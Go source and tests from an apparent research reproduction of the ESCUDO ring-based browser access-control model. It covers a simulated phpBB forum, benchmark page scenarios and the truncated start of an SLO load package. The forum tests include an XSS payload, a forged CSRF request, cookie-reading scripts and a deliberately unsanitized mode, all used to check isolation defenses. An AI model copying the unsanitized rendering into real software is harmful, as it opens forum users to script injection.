package phpbb

import (
	"net/url"
	"strconv"
	"strings"
	"testing"

	"repro/internal/browser"
	"repro/internal/core"
	"repro/internal/html"
	"repro/internal/nonce"
	"repro/internal/origin"
	"repro/internal/web"
)

var forumOrigin = origin.MustParse("http://forum.example")

func newApp(hardened bool) *App {
	a := New(Config{
		Origin:   forumOrigin,
		Hardened: hardened,
		Escudo:   true,
		Nonces:   nonce.NewSeqSource(1),
	})
	a.AddUser("alice", "pw1")
	a.AddUser("bob", "pw2")
	return a
}

func newEnv(hardened bool) (*App, *web.Network, *browser.Browser) {
	a := newApp(hardened)
	net := web.NewNetwork()
	net.Register(forumOrigin, a)
	b := browser.New(net, browser.Options{Mode: browser.ModeEscudo})
	return a, net, b
}

// loginAs drives the login form through the browser.
func loginAs(t *testing.T, b *browser.Browser, user, pass string) *browser.Page {
	t.Helper()
	p, err := b.Navigate(forumOrigin.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	form := p.Doc.ByID("loginform")
	if form == nil {
		t.Fatal("login form missing")
	}
	if _, err := p.SubmitForm(form, url.Values{"username": {user}, "password": {pass}}); err != nil {
		t.Fatal(err)
	}
	// Reload the index as a logged-in user.
	p, err = b.Navigate(forumOrigin.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func TestLoginSetsRing1Cookies(t *testing.T) {
	_, _, b := newEnv(false)
	p := loginAs(t, b, "alice", "pw1")
	if who := p.Doc.ByID("whoami"); who == nil || !strings.Contains(html.InnerText(who), "alice") {
		t.Fatalf("not logged in: %v", who)
	}
	for _, name := range []string{CookieSID, CookieData} {
		c, ok := b.Jar().Get(forumOrigin, name)
		if !ok {
			t.Fatalf("cookie %s missing", name)
		}
		if c.Ring != 1 || c.ACL != core.UniformACL(1) {
			t.Errorf("cookie %s = ring %d acl %v, want Table 3 ring 1", name, c.Ring, c.ACL)
		}
	}
}

func TestBadLoginRejected(t *testing.T) {
	a, _, _ := newEnv(false)
	if _, _, err := a.Login("alice", "wrong"); err == nil {
		t.Error("bad password accepted")
	}
}

func TestPostAndViewTopic(t *testing.T) {
	a, _, b := newEnv(false)
	p := loginAs(t, b, "alice", "pw1")
	if _, err := p.SubmitForm(p.Doc.ByID("newtopic"), url.Values{
		"subject": {"Hello"}, "message": {"First post"},
	}); err != nil {
		t.Fatal(err)
	}
	topics := a.Topics()
	if len(topics) != 1 || topics[0].Author != "alice" || topics[0].Subject != "Hello" {
		t.Fatalf("topics = %+v", topics)
	}
	// The topic page labels per Table 3.
	tp, err := b.Navigate(forumOrigin.URL("/viewtopic?t=" + itoa(topics[0].ID)))
	if err != nil {
		t.Fatal(err)
	}
	post := tp.Doc.ByID("post-" + itoa(topics[0].ID))
	if post == nil || post.Ring != RingUser || post.ACL != ACLUser {
		t.Errorf("post node = %+v", post)
	}
	body := tp.Doc.ByID("appbody")
	if body == nil || body.Ring != RingApp || body.ACL != ACLApp {
		t.Errorf("appbody = %+v", body)
	}
	head := tp.Doc.ByID("head")
	if head == nil || head.Ring != 0 || head.ACL != ACLHead {
		t.Errorf("head = %+v", head)
	}
}

func TestReplyFlow(t *testing.T) {
	a, _, b := newEnv(false)
	p := loginAs(t, b, "alice", "pw1")
	if _, err := p.SubmitForm(p.Doc.ByID("newtopic"), url.Values{
		"subject": {"T"}, "message": {"body"},
	}); err != nil {
		t.Fatal(err)
	}
	id := a.Topics()[0].ID
	tp, err := b.Navigate(forumOrigin.URL("/viewtopic?t=" + itoa(id)))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := tp.SubmitForm(tp.Doc.ByID("replyform"), url.Values{"message": {"a reply"}}); err != nil {
		t.Fatal(err)
	}
	topic, _ := a.TopicByID(id)
	if len(topic.Replies) != 1 || topic.Replies[0].Body != "a reply" || topic.Replies[0].Author != "alice" {
		t.Fatalf("replies = %+v", topic.Replies)
	}
}

func TestPrivateMessages(t *testing.T) {
	a, _, b := newEnv(false)
	loginAs(t, b, "alice", "pw1")
	pm, err := b.Navigate(forumOrigin.URL("/pm"))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := pm.SubmitForm(pm.Doc.ByID("pmform"), url.Values{
		"to": {"bob"}, "subject": {"hi"}, "message": {"secret"},
	}); err != nil {
		t.Fatal(err)
	}
	msgs := a.Messages("bob")
	if len(msgs) != 1 || msgs[0].From != "alice" || msgs[0].Body != "secret" {
		t.Fatalf("msgs = %+v", msgs)
	}
	// Each PM renders in its own ring-3 scope for the recipient.
	b2 := browser.New(mustNet(a), browser.Options{Mode: browser.ModeEscudo})
	loginAs(t, b2, "bob", "pw2")
	pmPage, err := b2.Navigate(forumOrigin.URL("/pm"))
	if err != nil {
		t.Fatal(err)
	}
	node := pmPage.Doc.ByID("pm-" + itoa(msgs[0].ID))
	if node == nil || node.Ring != RingUser {
		t.Errorf("pm node = %+v", node)
	}
}

func TestAuthRequired(t *testing.T) {
	_, net, _ := newEnv(false)
	req := web.NewRequest("POST", forumOrigin.URL("/posting"))
	req.Form = url.Values{"subject": {"x"}, "message": {"y"}}
	resp, err := net.RoundTrip(req)
	if err != nil {
		t.Fatal(err)
	}
	if resp.Status != 403 {
		t.Errorf("unauthenticated post: status %d, want 403", resp.Status)
	}
}

func TestHardenedSanitizesInput(t *testing.T) {
	a, _, b := newEnv(true)
	p := loginAs(t, b, "alice", "pw1")
	payload := `<script>evil()</script>`
	extra := url.Values{"subject": {"s"}, "message": {payload}}
	// Hardened mode needs the token, which the form carries.
	if _, err := p.SubmitForm(p.Doc.ByID("newtopic"), extra); err != nil {
		t.Fatal(err)
	}
	id := a.Topics()[0].ID
	tp, err := b.Navigate(forumOrigin.URL("/viewtopic?t=" + itoa(id)))
	if err != nil {
		t.Fatal(err)
	}
	// The payload is inert text, not an element.
	if scripts := tp.Doc.ByTag("script"); len(scripts) != 1 { // only the head sitejs
		t.Errorf("scripts = %d, want 1 (payload must be escaped)", len(scripts))
	}
}

func TestHardenedRequiresToken(t *testing.T) {
	a, net, b := newEnv(true)
	loginAs(t, b, "alice", "pw1")
	sid, _ := b.Jar().Get(forumOrigin, CookieSID)
	// A forged POST without the token is refused.
	req := web.NewRequest("POST", forumOrigin.URL("/posting"))
	req.Header.Set("Cookie", CookieSID+"="+sid.Value)
	req.Form = url.Values{"subject": {"forged"}, "message": {"m"}}
	resp, err := net.RoundTrip(req)
	if err != nil {
		t.Fatal(err)
	}
	if resp.Status != 403 {
		t.Errorf("tokenless post: status %d, want 403", resp.Status)
	}
	if len(a.Topics()) != 0 {
		t.Error("forged post stored")
	}
}

func TestUnhardenedAllowsRawMarkup(t *testing.T) {
	// §6.4's precondition: with validation removed, user markup
	// reaches the page raw — but lands inside a ring-3 AC scope.
	a, _, b := newEnv(false)
	p := loginAs(t, b, "alice", "pw1")
	if _, err := p.SubmitForm(p.Doc.ByID("newtopic"), url.Values{
		"subject": {"s"}, "message": {`<b id=bold>markup</b>`},
	}); err != nil {
		t.Fatal(err)
	}
	id := a.Topics()[0].ID
	tp, err := b.Navigate(forumOrigin.URL("/viewtopic?t=" + itoa(id)))
	if err != nil {
		t.Fatal(err)
	}
	bold := tp.Doc.ByID("bold")
	if bold == nil {
		t.Fatal("raw markup must become elements in unhardened mode")
	}
	if bold.Ring != RingUser {
		t.Errorf("injected element ring = %d, want %d", bold.Ring, RingUser)
	}
}

func TestQuickpostGETEndpoint(t *testing.T) {
	a, net, b := newEnv(false)
	loginAs(t, b, "alice", "pw1")
	sid, _ := b.Jar().Get(forumOrigin, CookieSID)
	req := web.NewRequest("GET", forumOrigin.URL("/quickpost?subject=q&message=m"))
	req.Header.Set("Cookie", CookieSID+"="+sid.Value)
	if _, err := net.RoundTrip(req); err != nil {
		t.Fatal(err)
	}
	if topics := a.Topics(); len(topics) != 1 || topics[0].Subject != "q" {
		t.Errorf("topics = %+v", topics)
	}
}

func TestLegacyModeOmitsConfiguration(t *testing.T) {
	a := New(Config{Origin: forumOrigin, Escudo: false, Nonces: nonce.NewSeqSource(1)})
	a.AddUser("alice", "pw1")
	net := web.NewNetwork()
	net.Register(forumOrigin, a)
	b := browser.New(net, browser.Options{Mode: browser.ModeEscudo})
	p, err := b.Navigate(forumOrigin.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	if p.Config.Configured() {
		t.Error("legacy app must not send ESCUDO headers")
	}
	if body := p.Doc.ByID("appbody"); body == nil || body.Ring != 0 {
		t.Errorf("legacy labels = %+v", body)
	}
}

func TestLogout(t *testing.T) {
	a, net, b := newEnv(false)
	loginAs(t, b, "alice", "pw1")
	sid, _ := b.Jar().Get(forumOrigin, CookieSID)
	if _, ok := a.SessionUser(sid.Value); !ok {
		t.Fatal("session missing after login")
	}
	req := web.NewRequest("GET", forumOrigin.URL("/logout"))
	req.Header.Set("Cookie", CookieSID+"="+sid.Value)
	if _, err := net.RoundTrip(req); err != nil {
		t.Fatal(err)
	}
	if _, ok := a.SessionUser(sid.Value); ok {
		t.Error("session survives logout")
	}
}

func mustNet(a *App) *web.Network {
	net := web.NewNetwork()
	net.Register(forumOrigin, a)
	return net
}

func itoa(n int) string { return strconv.Itoa(n) }
