package phpbb

import (
	"fmt"
	"strings"

	"repro/internal/web"
)

// Page generation. The layout mirrors §6.2: "The head portion of the
// page contains style information and some trusted JavaScript
// programs. These are all assigned to ring 0 ... The body tags are
// assigned to ring 1 ... Topics, replies, and private messages
// appearing inside the body are assigned to ring 3, but their ACL is
// configured so that they can be manipulated only by principals in
// ring 0, 1, and 2."
//
// The ESCUDO configuration lives in the page-assembly code (the
// "template" of the application); user-influenced strings are plugged
// into ring-3 AC scopes with fresh nonces.

// wrapHead/wrapBody/wrapUser wrap markup in the Table 3 AC scopes; in
// legacy mode they emit plain divs so the same app runs on both sides
// of the §6.3 compatibility matrix.
func (a *App) wrapHead(inner string) string {
	if !a.cfg.Escudo {
		return "<div id=head>" + inner + "</div>"
	}
	return a.builder.Wrap(0, ACLHead, "id=head", inner)
}

func (a *App) wrapBody(inner string) string {
	if !a.cfg.Escudo {
		return "<div id=appbody>" + inner + "</div>"
	}
	return a.builder.Wrap(RingApp, ACLApp, "id=appbody", inner)
}

func (a *App) wrapUser(idAttr, inner string) string {
	if !a.cfg.Escudo {
		return "<div " + idAttr + ">" + inner + "</div>"
	}
	return a.builder.Wrap(RingUser, ACLUser, idAttr, inner)
}

// chrome assembles a full page around body content.
func (a *App) chrome(title, bodyInner string) string {
	head := a.wrapHead(fmt.Sprintf(
		`<title>%s</title><script id=sitejs>var site = "phpBB";</script>`, title))
	return "<html>" + head + "<body>" + a.wrapBody(bodyInner) + "</body></html>"
}

// index renders GET /: announcement, topic list, login and posting
// forms.
func (a *App) index(req *web.Request) *web.Response {
	user, _, loggedIn := a.currentUser(req)

	var b strings.Builder
	b.WriteString(`<h1 id=announcement>Community Forum</h1>`)
	if loggedIn {
		fmt.Fprintf(&b, `<p id=whoami>logged in as %s</p>`, user)
		b.WriteString(`<form id=newtopic action="/posting" method="post">` +
			`<input name=subject value=""><textarea name=message></textarea>` +
			a.tokenField(req) +
			`<input type=submit value=Post></form>`)
	} else {
		b.WriteString(`<form id=loginform action="/login" method="post">` +
			`<input name=username value=""><input name=password value="">` +
			`<input type=submit value=Login></form>`)
	}
	b.WriteString(`<div id=topiclist>`)
	for _, t := range a.Topics() {
		fmt.Fprintf(&b, `<p><a id=topic-link-%d href="/viewtopic?t=%d">%d</a></p>`, t.ID, t.ID, t.ID)
		// Topic subjects are user content: ring 3, unescaped in
		// unhardened mode.
		b.WriteString(a.wrapUser(fmt.Sprintf("id=subject-%d", t.ID), a.sanitize(t.Subject)))
	}
	b.WriteString(`</div>`)

	resp := web.HTML(a.chrome("Forum", b.String()))
	a.decorate(resp)
	return resp
}

// viewTopic renders GET /viewtopic?t=N.
func (a *App) viewTopic(req *web.Request) *web.Response {
	id := req.Query().Get("t")
	var topic Topic
	found := false
	for _, t := range a.Topics() {
		if fmt.Sprintf("%d", t.ID) == id {
			topic, found = t, true
			break
		}
	}
	if !found {
		return web.NotFound()
	}

	var b strings.Builder
	fmt.Fprintf(&b, `<h1 id=topichead>Topic %d by %s</h1>`, topic.ID, topic.Author)
	// The original post and every reply are separate ring-3 scopes:
	// one user's message cannot manipulate another's (Table 3).
	b.WriteString(a.wrapUser(fmt.Sprintf("id=post-%d", topic.ID),
		a.sanitize(topic.Subject)+" "+a.sanitize(topic.Body)))
	for _, r := range topic.Replies {
		b.WriteString(a.wrapUser(fmt.Sprintf("id=reply-%d", r.ID), a.sanitize(r.Body)))
	}
	fmt.Fprintf(&b, `<form id=replyform action="/reply" method="post">`+
		`<input name=t value="%d"><textarea name=message></textarea>%s`+
		`<input type=submit value=Reply></form>`, topic.ID, a.tokenField(req))

	resp := web.HTML(a.chrome(fmt.Sprintf("Topic %d", topic.ID), b.String()))
	a.decorate(resp)
	return resp
}

// pmList renders GET /pm for the logged-in user.
func (a *App) pmList(req *web.Request) *web.Response {
	user, _, ok := a.currentUser(req)
	if !ok {
		return web.Forbidden("login required")
	}
	var b strings.Builder
	fmt.Fprintf(&b, `<h1 id=pmhead>Private messages for %s</h1>`, user)
	for _, m := range a.Messages(user) {
		b.WriteString(a.wrapUser(fmt.Sprintf("id=pm-%d", m.ID),
			fmt.Sprintf("from %s: %s — %s", m.From, a.sanitize(m.Subject), a.sanitize(m.Body))))
	}
	b.WriteString(`<form id=pmform action="/pm_send" method="post">` +
		`<input name=to value=""><input name=subject value="">` +
		`<textarea name=message></textarea>` + a.tokenField(req) +
		`<input type=submit value=Send></form>`)

	resp := web.HTML(a.chrome("Private Messages", b.String()))
	a.decorate(resp)
	return resp
}

// tokenField emits the hidden CSRF token input in hardened mode.
func (a *App) tokenField(req *web.Request) string {
	if !a.cfg.Hardened {
		return ""
	}
	_, sid, ok := a.currentUser(req)
	if !ok {
		return ""
	}
	a.mu.Lock()
	tok := a.tokens[sid]
	a.mu.Unlock()
	return fmt.Sprintf(`<input type=hidden name=token value="%s">`, tok)
}
