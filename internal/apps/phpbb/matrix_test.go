package phpbb

import (
	"net/url"
	"strconv"
	"testing"

	"repro/internal/core"
)

// TestTable2Matrix executes the paper's Table 2 capability matrix:
//
//	Principal              Modify Messages  Access Cookies  Access XHR
//	Application contents   Yes              Yes             Yes
//	Topics and replies     No               No              No
//	Private messages       No               No              No
//
// Each cell is a script run at the principal's ring against the live
// forum page, under the Table 3 configuration.
func TestTable2Matrix(t *testing.T) {
	a, _, b := newEnv(false)
	p := loginAs(t, b, "alice", "pw1")
	if _, err := p.SubmitForm(p.Doc.ByID("newtopic"), url.Values{
		"subject": {"S"}, "message": {"M"},
	}); err != nil {
		t.Fatal(err)
	}
	topicID := a.Topics()[0].ID
	tp, err := b.Navigate(forumOrigin.URL("/viewtopic?t=" + strconv.Itoa(topicID)))
	if err != nil {
		t.Fatal(err)
	}

	principals := []struct {
		name string
		ring core.Ring
		can  bool
	}{
		{"application contents", RingApp, true},
		{"topics and replies", RingUser, false},
		{"private messages", RingUser, false},
	}
	postID := "post-" + strconv.Itoa(topicID)

	for _, pr := range principals {
		t.Run(pr.name, func(t *testing.T) {
			// Modify messages (DOM): Table 3 lets rings ≤ 2 write
			// user messages — ring-1 app content yes, ring-3 no.
			err := tp.RunScriptRing(pr.ring, pr.name,
				`document.getElementById("`+postID+`").innerText = "edited";`)
			if got := err == nil; got != pr.can {
				t.Errorf("modify messages = %v, want %v (err=%v)", got, pr.can, err)
			}
			// Access cookies: ring-1 sees them, ring-3 sees none.
			if err := tp.RunScriptRing(pr.ring, pr.name, `log(document.cookie);`); err != nil {
				t.Fatalf("cookie read must never error: %v", err)
			}
			lines := b.Console.Lines()
			sawCookie := len(lines) > 0 && lines[len(lines)-1] != ""
			if sawCookie != pr.can {
				t.Errorf("access cookies = %v, want %v", sawCookie, pr.can)
			}
			// Access XMLHttpRequest (ring 1 per Table 3).
			err = tp.RunScriptRing(pr.ring, pr.name,
				`var x = new XMLHttpRequest(); x.open("GET", "/");`)
			if got := err == nil; got != pr.can {
				t.Errorf("access xhr = %v, want %v (err=%v)", got, pr.can, err)
			}
		})
	}
}

// TestTable3MessageIsolation: "content provided by one user is
// completely isolated from content provided by another" — a ring-3
// message's script cannot modify a sibling message, but a moderator
// tool at ring 2 can.
func TestTable3MessageIsolation(t *testing.T) {
	a, _, b := newEnv(false)
	t1 := a.SeedTopic("alice", "alice topic", "alice body")
	a.SeedReply(t1, "mallory", "mallory reply")
	tp, err := b.Navigate(forumOrigin.URL("/viewtopic?t=" + strconv.Itoa(t1)))
	if err != nil {
		t.Fatal(err)
	}
	post := "post-" + strconv.Itoa(t1)
	// Ring 3 (another message) cannot touch it.
	if err := tp.RunScriptRing(3, "other-message",
		`document.getElementById("`+post+`").innerText = "x";`); err == nil {
		t.Error("ring-3 principal modified a sibling message")
	}
	// Ring 2 can (ACL ≤ 2 per Table 3).
	if err := tp.RunScriptRing(2, "moderator",
		`document.getElementById("`+post+`").innerText = "moderated";`); err != nil {
		t.Errorf("ring-2 edit: %v", err)
	}
}
