package scenarios

import (
	"strings"

	"repro/internal/core"
	"repro/internal/origin"
	"repro/internal/policy"
	"repro/internal/web"
)

// SessionCookie is the ring-1 session cookie the scenario server sets,
// so that every navigation exercises the use-mediated cookie
// attachment path (the hot authorization in a logged-in workload).
const SessionCookie = "benchsid"

// Paths returns the URL path serving each scenario ("/s1" .. "/s8").
func Paths() []string {
	var out []string
	for _, sc := range All() {
		out = append(out, "/"+strings.ToLower(sc.Name))
	}
	return out
}

// Policy returns the scenario server's unified policy document for
// the origin it is mounted at: the default ring count with the ring-1
// session cookie — the same configuration Handler carries in headers.
func Policy(o origin.Origin) policy.Policy {
	p := policy.New(o, core.DefaultMaxRing)
	p.Cookies[SessionCookie] = policy.Uniform(1)
	return p
}

// Handler serves the Figure-4 scenario pages over the web substrate:
// GET /s1 .. /s8 return the generated markup with the page's ESCUDO
// configuration (ring count 3, the session cookie in ring 1), and "/"
// returns an index. The markup is generated once at construction, so
// the handler is safe for concurrent use.
func Handler() web.Handler {
	pages := map[string]string{}
	var index strings.Builder
	index.WriteString("<html><body><h1>Figure 4 scenarios</h1>")
	for _, sc := range All() {
		path := "/" + strings.ToLower(sc.Name)
		pages[path] = sc.Markup
		index.WriteString(`<p><a href="` + path + `">` + sc.Name + "</a></p>")
	}
	index.WriteString("</body></html>")
	cookieCfg := core.FormatCookieHeader(core.CookieConfig{
		Name: SessionCookie, Ring: 1, ACL: core.UniformACL(1),
	})
	return web.HandlerFunc(func(req *web.Request) *web.Response {
		body, ok := pages[req.Path()]
		if !ok {
			if req.Path() == "/" {
				body = index.String()
			} else {
				return web.NotFound()
			}
		}
		resp := web.HTML(body)
		resp.Header.Set(core.HeaderMaxRing, core.DefaultMaxRing.String())
		resp.Header.Add(core.HeaderCookie, cookieCfg)
		// The bodies are immutable fixtures, so an HTTP gateway may
		// cache them across requests. Responses that also establish
		// the session cookie are excluded from caching by the gateway
		// (Set-Cookie is a side effect, not a pure page).
		resp.Header.Set("Cache-Control", "public, immutable")
		if _, has := req.Cookie(SessionCookie); !has {
			resp.Header.Add("Set-Cookie", SessionCookie+"=tok1; Path=/")
		}
		return resp
	})
}
