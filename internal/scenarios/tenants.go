package scenarios

import (
	"fmt"

	"repro/internal/origin"
	"repro/internal/web"
)

// TenantOrigin returns the i-th template-stamped tenant origin
// ("http://tenant-0042.example"). The multi-tenant gateway scale runs
// mount thousands of these over one shared scenario handler — the
// paper's "thousands of origins behind one deployment" shape without
// thousands of handler copies.
func TenantOrigin(i int) origin.Origin {
	return origin.MustParse(fmt.Sprintf("http://tenant-%04d.example", i))
}

// RegisterTenants registers count template-stamped tenant origins on
// the network, every one serving the shared scenario handler, and
// returns them in index order. Each tenant gets its own policy
// document from Policy — per-origin identity, per-origin policy, one
// body of content.
func RegisterTenants(n *web.Network, count int) []origin.Origin {
	h := Handler()
	out := make([]origin.Origin, 0, count)
	for i := 0; i < count; i++ {
		o := TenantOrigin(i)
		n.Register(o, h)
		out = append(out, o)
	}
	return out
}
