// Package scenarios generates the eight web-page workloads of the
// paper's Figure 4 performance experiment ("We setup 8 web pages
// varying amounts of AC tags and dynamic content") and measures
// parse+render time with ESCUDO labeling off and on. The absolute
// times differ from the paper's Lobo numbers (different substrate);
// the reproduced shape is the low single-digit relative overhead
// (paper: 5.09% average).
package scenarios

import (
	"fmt"
	"runtime"
	"strings"
	"time"

	"repro/internal/core"
	"repro/internal/html"
	"repro/internal/layout"
	"repro/internal/metrics"
	"repro/internal/nonce"
	"repro/internal/template"
)

// Scenario is one Figure 4 workload.
type Scenario struct {
	// Name identifies the scenario (S1..S8).
	Name string
	// Description says how the page is shaped.
	Description string
	// Markup is the generated page.
	Markup string
}

// lorem is filler text for realistic text-layout work.
const lorem = "lorem ipsum dolor sit amet consectetur adipiscing elit sed do " +
	"eiusmod tempor incididunt ut labore et dolore magna aliqua "

// paragraphs emits n <p> blocks of filler.
func paragraphs(n int) string {
	var b strings.Builder
	for i := 0; i < n; i++ {
		fmt.Fprintf(&b, "<p id=p%d>%s</p>", i, lorem)
	}
	return b.String()
}

// acSections emits n AC-tagged sections (ring cycling 1..3) each with
// filler content.
func acSections(n int, builder *template.ACBuilder) string {
	var b strings.Builder
	for i := 0; i < n; i++ {
		ring := core.Ring(i%3 + 1)
		b.WriteString(builder.Wrap(ring, core.UniformACL(ring.Outermost(2)),
			fmt.Sprintf("id=sec%d", i), lorem))
	}
	return b.String()
}

// nested emits depth nested AC scopes.
func nested(depth int, builder *template.ACBuilder) string {
	if depth == 0 {
		return lorem
	}
	ring := core.Ring(depth % 3)
	return builder.Wrap(ring.Outermost(1), core.UniformACL(2),
		fmt.Sprintf("id=n%d", depth), nested(depth-1, builder))
}

// scripts emits n small inert scripts (dynamic content).
func scripts(n int) string {
	var b strings.Builder
	for i := 0; i < n; i++ {
		fmt.Fprintf(&b, `<script id=s%d>var v%d = %d;</script>`, i, i, i)
	}
	return b.String()
}

// All generates the eight scenarios deterministically.
func All() []Scenario {
	bld := template.NewACBuilder(nonce.NewSeqSource(1))
	page := func(body string) string {
		return "<html><head><title>bench</title></head><body>" + body + "</body></html>"
	}
	return []Scenario{
		{
			Name:        "S1",
			Description: "small static page, no AC tags",
			Markup:      page(paragraphs(10)),
		},
		{
			Name:        "S2",
			Description: "medium static page, no AC tags",
			Markup:      page(paragraphs(100)),
		},
		{
			Name:        "S3",
			Description: "10 AC-tagged sections",
			Markup:      page(acSections(10, bld) + paragraphs(20)),
		},
		{
			Name:        "S4",
			Description: "50 AC-tagged sections",
			Markup:      page(acSections(50, bld) + paragraphs(20)),
		},
		{
			Name:        "S5",
			Description: "200 AC-tagged sections",
			Markup:      page(acSections(200, bld)),
		},
		{
			Name:        "S6",
			Description: "deeply nested AC scopes (depth 40)",
			Markup:      page(nested(40, bld) + paragraphs(20)),
		},
		{
			Name:        "S7",
			Description: "dynamic content: 50 scripts, few AC tags",
			Markup:      page(scripts(50) + acSections(5, bld) + paragraphs(20)),
		},
		{
			Name:        "S8",
			Description: "large mixed page: 100 AC sections + 50 scripts",
			Markup:      page(acSections(100, bld) + scripts(50) + paragraphs(100)),
		},
	}
}

// ParseRender runs the measured pipeline stage: parse (with or
// without ESCUDO labeling) and lay out. It returns the node count so
// callers can keep the work observable.
func ParseRender(markup string, escudo bool) int {
	opts := html.LegacyOptions()
	if escudo {
		opts = html.Options{Escudo: true, MaxRing: 3, BaseRing: 3, BaseACL: core.ACL{}}
	}
	doc := html.Parse(markup, opts)
	r := layout.Layout(doc, layout.DefaultViewportWidth)
	return html.CountNodes(doc) + r.Words
}

// Row is one Figure 4 measurement row.
type Row struct {
	Scenario    Scenario
	Baseline    time.Duration // without ESCUDO
	Escudo      time.Duration // with ESCUDO
	OverheadPct float64
}

// Measure runs the Figure 4 experiment: reps timed repetitions per
// scenario per mode (the paper used 90), after warmup untimed ones.
// Baseline and ESCUDO samples are interleaved so allocator and GC
// noise lands evenly on both sides, and a GC runs before each
// scenario so one scenario's garbage is not billed to the next.
func Measure(reps, warmup int) []Row {
	var rows []Row
	for _, sc := range All() {
		for i := 0; i < warmup; i++ {
			ParseRender(sc.Markup, false)
			ParseRender(sc.Markup, true)
		}
		runtime.GC()

		// Calibrate a batch size so each timing sample is ≥ ~2ms:
		// sub-millisecond samples are dominated by timer quantization
		// and GC spikes.
		start := time.Now()
		ParseRender(sc.Markup, false)
		single := time.Since(start)
		batch := 1
		if single > 0 {
			if k := int(2*time.Millisecond/single) + 1; k > 1 {
				batch = k
			}
		}

		base := &metrics.Sample{}
		esc := &metrics.Sample{}
		timeBatch := func(escudo bool, s *metrics.Sample) {
			start := time.Now()
			for j := 0; j < batch; j++ {
				ParseRender(sc.Markup, escudo)
			}
			s.Add(time.Since(start) / time.Duration(batch))
		}
		for i := 0; i < reps; i++ {
			// Alternate which mode goes first so periodic GC cost
			// cannot phase-lock onto one side of the comparison.
			if i%2 == 0 {
				timeBatch(false, base)
				timeBatch(true, esc)
			} else {
				timeBatch(true, esc)
				timeBatch(false, base)
			}
		}
		// Medians resist the GC outliers that means amplify.
		baseMid, escMid := base.Percentile(50), esc.Percentile(50)
		rows = append(rows, Row{
			Scenario:    sc,
			Baseline:    baseMid,
			Escudo:      escMid,
			OverheadPct: metrics.OverheadPercent(baseMid, escMid),
		})
	}
	return rows
}

// AverageOverhead returns the mean overhead across rows — the paper's
// single summary number (5.09%).
func AverageOverhead(rows []Row) float64 {
	if len(rows) == 0 {
		return 0
	}
	var total float64
	for _, r := range rows {
		total += r.OverheadPct
	}
	return total / float64(len(rows))
}

// Table renders rows in the harness's output format.
func Table(rows []Row) string {
	t := metrics.NewTable("Scenario", "Description", "Baseline (ms)", "Escudo (ms)", "Overhead")
	for _, r := range rows {
		t.AddRow(r.Scenario.Name, r.Scenario.Description,
			metrics.FormatMs(r.Baseline), metrics.FormatMs(r.Escudo),
			metrics.FormatPercent(r.OverheadPct))
	}
	return t.String()
}
