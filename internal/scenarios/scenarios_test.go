package scenarios

import (
	"strings"
	"testing"

	"repro/internal/core"
	"repro/internal/html"
)

func TestAllScenarios(t *testing.T) {
	all := All()
	if len(all) != 8 {
		t.Fatalf("scenarios = %d, want 8 (Figure 4)", len(all))
	}
	names := map[string]bool{}
	for _, sc := range all {
		if names[sc.Name] {
			t.Errorf("duplicate scenario %s", sc.Name)
		}
		names[sc.Name] = true
		if sc.Markup == "" || sc.Description == "" {
			t.Errorf("scenario %s incomplete", sc.Name)
		}
	}
}

func TestScenariosDeterministic(t *testing.T) {
	a, b := All(), All()
	for i := range a {
		if a[i].Markup != b[i].Markup {
			t.Errorf("scenario %s not deterministic", a[i].Name)
		}
	}
}

func TestACScenariosLabelCorrectly(t *testing.T) {
	for _, sc := range All() {
		doc := html.Parse(sc.Markup, html.Options{Escudo: true, MaxRing: 3, BaseRing: 3})
		acTags := 0
		html.Walk(doc, func(n *html.Node) bool {
			if n.IsACTag {
				acTags++
			}
			return true
		})
		hasAC := strings.Contains(sc.Markup, "ring=")
		if hasAC && acTags == 0 {
			t.Errorf("%s: markup has AC tags but parse found none", sc.Name)
		}
		if !hasAC && acTags > 0 {
			t.Errorf("%s: unexpected AC tags", sc.Name)
		}
	}
}

func TestParseRenderBothModes(t *testing.T) {
	for _, sc := range All() {
		base := ParseRender(sc.Markup, false)
		esc := ParseRender(sc.Markup, true)
		if base == 0 || esc == 0 {
			t.Errorf("%s: zero work (base=%d escudo=%d)", sc.Name, base, esc)
		}
	}
}

func TestMeasureProducesRows(t *testing.T) {
	rows := Measure(3, 1)
	if len(rows) != 8 {
		t.Fatalf("rows = %d", len(rows))
	}
	for _, r := range rows {
		if r.Baseline <= 0 || r.Escudo <= 0 {
			t.Errorf("%s: nonpositive times %v %v", r.Scenario.Name, r.Baseline, r.Escudo)
		}
	}
	tbl := Table(rows)
	for _, want := range []string{"S1", "S8", "Overhead"} {
		if !strings.Contains(tbl, want) {
			t.Errorf("table missing %q:\n%s", want, tbl)
		}
	}
	_ = AverageOverhead(rows) // must not panic; sign checked in the bench harness
}

func TestAverageOverheadEmpty(t *testing.T) {
	if got := AverageOverhead(nil); got != 0 {
		t.Errorf("AverageOverhead(nil) = %v", got)
	}
}

func TestNestedScenarioDepth(t *testing.T) {
	// S6's nesting must produce monotone non-decreasing rings along
	// the ancestor chain (scoping rule).
	var s6 Scenario
	for _, sc := range All() {
		if sc.Name == "S6" {
			s6 = sc
		}
	}
	doc := html.Parse(s6.Markup, html.Options{Escudo: true, MaxRing: 3, BaseRing: 3})
	ok := true
	var walk func(n *html.Node, bound core.Ring)
	walk = func(n *html.Node, bound core.Ring) {
		if n.IsACTag && n.Ring < bound {
			ok = false
		}
		next := bound
		if n.IsACTag {
			next = n.Ring
		}
		for _, k := range n.Kids {
			walk(k, next)
		}
	}
	walk(doc, 0)
	if !ok {
		t.Error("S6 violates the scoping rule")
	}
}
