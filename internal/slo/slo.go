// Package slo models open-loop load for SLO measurement. A closed
// loop (the BENCH phases) waits for each response before sending the
// next request, so a slowdown in the system politely throttles the
// load and the measured latency flatters the server. The open-loop
// mode keeps its appointments instead: arrivals follow a seeded
// Poisson process at a target rate whether or not the system keeps
// up, queues grow when it can't, and the tail percentiles show the
// coordinated-omission-free truth. Session churn (logins and logouts
// during the run) rides along so the measured path includes principal
// creation and teardown, not just steady-state authorization.
//
// The package provides the arrival schedule, the churn bookkeeping,
// and the mergeable `slo` BENCH section; the driver in escudo-serve
// owns the actual traffic.
package slo

import (
	"math"
	"math/rand"
	"sort"
	"sync"
	"time"

	"repro/internal/metrics"
	"repro/internal/obs"
)

// Arrivals is a seeded Poisson arrival process: inter-arrival gaps
// are exponentially distributed with mean 1/rate, so the same seed
// always reproduces the same schedule.
type Arrivals struct {
